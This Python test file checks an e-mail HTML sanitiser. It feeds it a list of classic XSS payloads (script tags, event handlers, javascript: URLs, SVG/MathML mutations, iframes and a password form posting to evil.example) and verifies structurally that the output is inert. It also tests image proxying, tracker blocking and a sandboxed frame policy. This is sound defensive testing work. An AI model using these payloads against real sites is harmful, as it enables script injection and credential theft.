"""E-mail HTML sanitising: hostile markup loses every way to run code, style or phone home.

The output of each payload is parsed back and checked structurally (which elements, attributes and
URLs survive), not by string matching: that is what a browser will see.
"""

import base64
from html.parser import HTMLParser
from urllib.parse import parse_qs, urlsplit

import pytest

from aiemaily.security.imageproxy import proxy_url_for, signature_ok
from aiemaily.security.sanitise import BLOCKED_IMAGE, sanitise_email_html
from tests.harness.browser_fixtures import PNG

VIEWER = "viewer-1"
proxy_url = proxy_url_for(VIEWER)

pytestmark = pytest.mark.claim("csp")

XSS_PAYLOADS = [
    "<script>window.top.pwned=1</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"https://evil.example/a.png\" onload=\"alert(1)\">",
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<img src=\"jav&#x09;ascript:alert(1)\">",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=\"  JAVASCRIPT:alert(1)\">click</a>",
    "<a href=\"java\tscript:alert(1)\">tab</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">data</a>",
    "<a href=\"vbscript:msgbox(1)\">vb</a>",
    "<svg onload=alert(1)><circle r=1 /></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=\"https://evil.example/\"></iframe>",
    "<iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe>",
    "<object data=\"https://evil.example/x.swf\"></object>",
    "<embed src=\"https://evil.example/x.swf\">",
    "<div style=\"width: expression(alert(1))\">css expression</div>",
    "<div style=\"background:url(javascript:alert(1))\">css url</div>",
    "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example/t)}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
    "<base href=\"https://evil.example/\">",
    "<form action=\"https://evil.example/steal\"><input name=p type=password><button>go</button></form>",
    "<button formaction=\"https://evil.example/\">x</button>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<table background=\"https://evil.example/t.png\"><tr><td>x</td></tr></table>",
    "<img srcset=\"https://evil.example/a.png 1x\">",
    "<a href=\"https://ok.example/\" target=\"_self\" ping=\"https://evil.example/ping\">ping</a>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<template><script>alert(1)</script></template>",
    "<img src=\"/accounts/logout/\">",
    "<img src=\"//evil.example/protocol-relative.png\">",
    "<a href=\"/image-proxy?u=https://evil.example/&s=forged\">forged proxy link</a>",
    "<isindex action=javascript:alert(1) type=image>",
    "<xmp><script>alert(1)</script></xmp>",
]
FORBIDDEN_ELEMENTS = {
    "script", "style", "iframe", "frame", "object", "embed", "form", "input", "button", "svg", "math",
    "meta", "link", "base", "video", "audio", "source", "template", "noscript", "body", "isindex", "xmp",
}
URL_ATTRIBUTES = {"href", "src", "cite", "action", "formaction", "background", "ping", "srcset", "poster"}


class Elements(HTMLParser):
    def __init__(self):
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, {name: value or "" for name, value in attrs}))

    handle_startendtag = handle_starttag


def elements(html: str) -> list[tuple[str, dict[str, str]]]:
    parser = Elements()
    parser.feed(html)
    parser.close()
    return parser.found


def assert_inert(html: str, *, proxied: bool = False) -> None:
    for tag, attrs in elements(html):
        assert tag not in FORBIDDEN_ELEMENTS, (tag, html)
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name, html)
            assert name not in ("style", "srcset", "ping", "background", "formaction", "action"), (name, html)
            if name in URL_ATTRIBUTES:
                assert_safe_url(tag, name, value, proxied)


def assert_safe_url(tag: str, name: str, value: str, proxied: bool) -> None:
    if tag == "img" and name == "src":
        allowed = value == BLOCKED_IMAGE or value.startswith("data:image/png;base64,")
        allowed = allowed or (proxied and value.startswith("/image-proxy?"))
        assert allowed, value
    else:
        assert urlsplit(value).scheme in ("http", "https", "mailto"), (tag, name, value)


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
@pytest.mark.parametrize("load_images", [False, True])
def test_hostile_markup_comes_out_inert(payload, load_images):
    html = sanitise_email_html(payload, proxy_url=proxy_url if load_images else None)
    assert_inert(html, proxied=load_images)
    # Text may mention alert(1) harmlessly (escaped); a javascript: URL anywhere would be a bug.
    assert "javascript:" not in html.lower()


def test_all_payloads_at_once_come_out_inert():
    assert_inert(sanitise_email_html("\n".join(XSS_PAYLOADS)))


def test_ordinary_mail_keeps_its_text_structure_and_links():
    html = sanitise_email_html(
        "<h1>Invoice</h1><p>Hello <b>Ann</b>, see <a href=\"https://billing.example/i/42\">your invoice</a>"
        " or write to <a href=\"mailto:help@example.com\">help</a>.</p>"
        "<table border=1><tr><th>Item</th><td colspan=2>Tea</td></tr></table><ul><li>one</li></ul>"
    )
    found = elements(html)
    assert [tag for tag, _ in found][:4] == ["h1", "p", "b", "a"]
    links = [attrs for tag, attrs in found if tag == "a"]
    assert links[0]["href"] == "https://billing.example/i/42" and links[1]["href"] == "mailto:help@example.com"
    # Links open in a new tab, without telling the destination where they came from.
    assert all(link["target"] == "_blank" and "noreferrer" in link["rel"] and "noopener" in link["rel"]
               for link in links)
    assert ("td", {"colspan": "2"}) in found
    assert "Hello" in html and "Tea" in html


def test_script_and_style_text_is_dropped_not_shown():
    html = sanitise_email_html("<p>a</p><script>var secret = 1;</script><style>p{color:red}</style><p>b</p>")
    assert html == "<p>a</p><p>b</p>"


def test_remote_images_are_blocked_by_default():
    html = sanitise_email_html('<img src="https://tracker.example/open?id=123" alt="logo" width="1">')
    (tag, attrs), = elements(html)
    assert attrs["src"] == BLOCKED_IMAGE and attrs["alt"] == "logo"
    assert "tracker.example" not in html


@pytest.mark.parametrize("src", ["cid:part1@example", "/relative.png", "//tracker.example/x.png",
                                 "ftp://files.example/x.png", "data:image/svg+xml,<svg onload=alert(1)>",
                                 "data:text/html;base64,PHNjcmlwdD4="])
def test_images_that_are_not_plain_remote_or_raster_data_never_load(src):
    for proxy in (None, proxy_url):
        html = sanitise_email_html(f'<img src="{src}">', proxy_url=proxy)
        srcs = [attrs.get("src") for tag, attrs in elements(html) if tag == "img"]
        assert srcs in ([BLOCKED_IMAGE], [None]), (src, html)


def test_inline_raster_images_survive():
    data = "data:image/png;base64," + base64.b64encode(PNG).decode()
    html = sanitise_email_html(f'<img src="{data}">')
    assert elements(html) == [("img", {"src": data})]


def test_loading_images_rewrites_remote_ones_to_signed_proxy_urls():
    remote = "https://cdn.example/pic.png?size=2&x=<y>"
    html = sanitise_email_html(f'<img src="{remote}">', proxy_url=proxy_url)
    (tag, attrs), = elements(html)
    parts = urlsplit(attrs["src"])
    assert parts.scheme == "" and parts.netloc == "" and parts.path == "/image-proxy"
    query = parse_qs(parts.query)
    assert query["u"] == [remote]
    assert signature_ok(remote, query["s"][0], user_id=VIEWER)
    assert not signature_ok(remote, query["s"][0], user_id="someone-else")


def _frame_for(html: str, *, load_images: bool = False) -> tuple[list, dict]:
    from django.test import RequestFactory

    from aiemaily.security.mailframe import render_message_frame

    outer = render_message_frame(RequestFactory().get("/", secure=True), html, load_images=load_images)
    found = elements(outer)
    return found, dict(found[0][1])


def test_the_message_frame_is_sandboxed_without_scripts_and_carries_its_own_policy():
    from aiemaily.security.mailframe import FRAME_SANDBOX

    found, iframe = _frame_for("<p>Hello</p>")
    assert [tag for tag, _ in found] == ["iframe"]
    sandbox = iframe["sandbox"].split()
    assert sandbox == FRAME_SANDBOX.split()
    assert "allow-scripts" not in sandbox and "allow-forms" not in sandbox and "allow-top-navigation" not in sandbox
    assert iframe["referrerpolicy"] == "no-referrer"
    inner = {tag: attrs for tag, attrs in elements(iframe["srcdoc"]) if tag == "meta" and "http-equiv" in attrs}
    policy = inner["meta"]["content"]
    assert policy.startswith("default-src 'none';")
    assert "img-src https://testserver/image-proxy data:;" in policy
    assert "script-src" not in policy  # falls back to default-src 'none'


@pytest.mark.parametrize("payload", ['"></iframe><script>alert(1)</script>', "'><script>alert(1)</script>",
                                     "&quot;&gt;&lt;/iframe&gt;&lt;script&gt;alert(1)&lt;/script&gt;"])
def test_a_message_cannot_break_out_of_the_srcdoc_attribute(payload):
    # The srcdoc is escaped exactly once: the outer page holds one element, the iframe, whatever
    # the message contains; and inside, the sanitiser has removed the script.
    found, iframe = _frame_for(f"<p>{payload}</p>{payload}")
    assert [tag for tag, _ in found] == ["iframe"]
    assert "script" not in [tag for tag, _ in elements(iframe["srcdoc"])]
